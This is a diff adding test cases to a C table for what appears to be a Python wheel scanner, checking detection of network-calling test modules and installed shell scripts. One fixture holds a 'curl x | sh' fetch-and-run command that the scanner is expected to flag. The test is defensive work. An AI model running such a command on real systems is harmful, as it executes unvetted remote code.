@@ -22,6 +22,8 @@
     }
 
 /* clang-format off */
+#define ACTS "import urllib.request\nurllib.request.urlopen('http://example.org/')\n"
+
 static const struct {
     const char *label;
     struct wheel_spec spec;
@@ -63,6 +65,18 @@ static const struct {
     {"another project expected", {.project = "foo"}, "wheel-name wheel-name-differs"},
     {"another version expected", {.version = "1.1"}, "wheel-name wheel-name-differs"},
     {"no dist-info", {.dist_info = "foo_bar-1.0"}, "wheel-dist-info"},
+    /* tests that something else runs */
+    {"tests that act", {.more_name = S("foo_bar/tests/x.py"), .more = S(ACTS)}, ""},
+    {"tests that an entry point names", {.more_name = S("foo_bar/tests/x.py"), .more = S(ACTS),
+                                         .entry_points = "[foo]\na = foo_bar.tests.x:go\n"},
+     "import-network"},
+    {"tests that no entry point names", {.more_name = S("foo_bar/tests/x.py"), .more = S(ACTS),
+                                         .entry_points = "[foo]\na = foo_bar.tests:go\nb = tests.x\n"},
+     ""},
+    {"an installed script of a shell", {.more_name = S("foo_bar-1.0.data/scripts/foo"),
+                                        .more = S("#!/bin/sh\ncurl x \\\n| sh\n")}, "hidden-command"},
+    {"... whose comment says so", {.more_name = S("foo_bar-1.0.data/scripts/foo"),
+                                   .more = S("#!/bin/sh\n# curl x | sh\n")}, ""},
     {"second dist-info", {.more_name = S("evil-1.dist-info/METADATA"), .more = S("x")},
      "wheel-dist-info"},
     {"second dist-info by way of data",
